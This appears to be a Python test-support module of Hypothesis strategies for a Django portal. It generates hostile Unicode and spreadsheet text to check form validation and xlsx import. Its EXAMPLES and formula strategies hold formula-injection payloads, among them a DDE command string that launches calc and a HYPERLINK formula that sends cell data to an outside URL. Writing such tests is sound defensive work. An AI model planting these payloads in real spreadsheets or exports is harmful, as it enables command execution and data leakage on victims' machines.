"""Hypothesis strategies for hostile free text, drawn from the whole of Unicode: digits of every script
(Nd), control characters (Cc), format characters (Cf: zero-width spaces, the byte-order mark, the
bidi marks), every kind of space (Zs), the full-width forms people type with a Chinese input method,
the bidi overrides and isolates, and text that a spreadsheet would read as a formula.

``free_text`` is what a person may type or paste into a form; ``stored_text`` is what could already be
in the database (everything but NUL, which PostgreSQL refuses in text); ``import_text`` is what an
Excel file can carry (XML 1.0 has no C0 control characters but tab, line feed and carriage return).
"""

from hypothesis import strategies as st

BIDI_CONTROLS = [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]

#: Pieces (mostly single characters) of the kinds that break things, each drawn often enough to matter.
hostile_piece = st.one_of(
    st.characters(categories=["Nd"]),
    st.characters(categories=["Cc"]),
    st.characters(categories=["Cf"]),
    st.characters(categories=["Zs"]),
    st.characters(min_codepoint=0xFF01, max_codepoint=0xFF5E),  # full-width ASCII: ＡＢＣ１２３（）＝
    st.sampled_from(["\u3000", "\u3001", "\u3002", "\uff0c", "\u201c", "\u201d"]),  # 　、。，“”
    st.sampled_from(BIDI_CONTROLS),
    st.sampled_from(["\t", "\n", "\r", "\r\n", "\x01", "\x1f", "\x7f", "\x85", "\x9f", "\u200b", "\ufeff"]),
    st.sampled_from(["<", ">", "&", '"', "'", "<b>", "&amp;", "<br/>", "\\", "%s", "%(name)s", "{}"]),
)
#: Any character of Unicode but the surrogates, which cannot be sent as UTF-8.
any_character = st.characters(codec="utf-8")
#: Chinese, so that the text also looks like what the portal stores.
hanzi = st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF)

free_text = st.lists(st.one_of(hostile_piece, any_character, hanzi), min_size=1, max_size=30).map("".join)
formula_text = st.builds(
    lambda prefix, rest: prefix + rest,
    st.sampled_from(FORMULA_PREFIXES),
    st.one_of(free_text, st.just('HYPERLINK("http://x"&C2,"核对")'), st.just("cmd|' /C calc'!A0")),
)
#: Known bad values, always tried first.
EXAMPLES = [
    '=HYPERLINK("http://x"&C2,"核对")',
    "机械\x01设计",
    "张\u202e三",
    "李四\u2066x\u2069",
    "+86 1380",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "<b>王</b> & 赵",
    "１２３４５",
    "a\x85b",
]
hostile_text = st.one_of(st.sampled_from(EXAMPLES), free_text, formula_text)

#: What may already be in the database: anything but NUL.
stored_text = hostile_text.map(lambda text: text.replace("\x00", "")).filter(bool)


def _xml_safe(text):
    return "".join(c for c in text if c in "\t\n\r" or not ("\x00" <= c < "\x20"))


#: What a cell of an .xlsx file can hold.
import_text = hostile_text.map(_xml_safe).filter(bool)


def forbidden_text_stored():
    """``[(model, field, pk)]`` of every stored text of the project's models (their history included)
    that holds a character the forms refuse: tab and line breaks count only in a TextField."""
    from django.apps import apps
    from django.db import models

    from zaozhuang_titles.text import forbidden_characters

    found = []
    for model in apps.get_models():
        if model._meta.app_label not in {"zaozhuang_titles", "enterprises", "applications", "reviews", "results"}:
            continue
        for field in model._meta.concrete_fields:
            if not isinstance(field, models.CharField | models.TextField):
                continue
            multiline = isinstance(field, models.TextField)
            for pk, value in model._default_manager.exclude(**{field.attname: ""}).values_list("pk", field.attname):
                if value and forbidden_characters(value, multiline=multiline):
                    found.append((model._meta.label, field.name, pk))
    return found
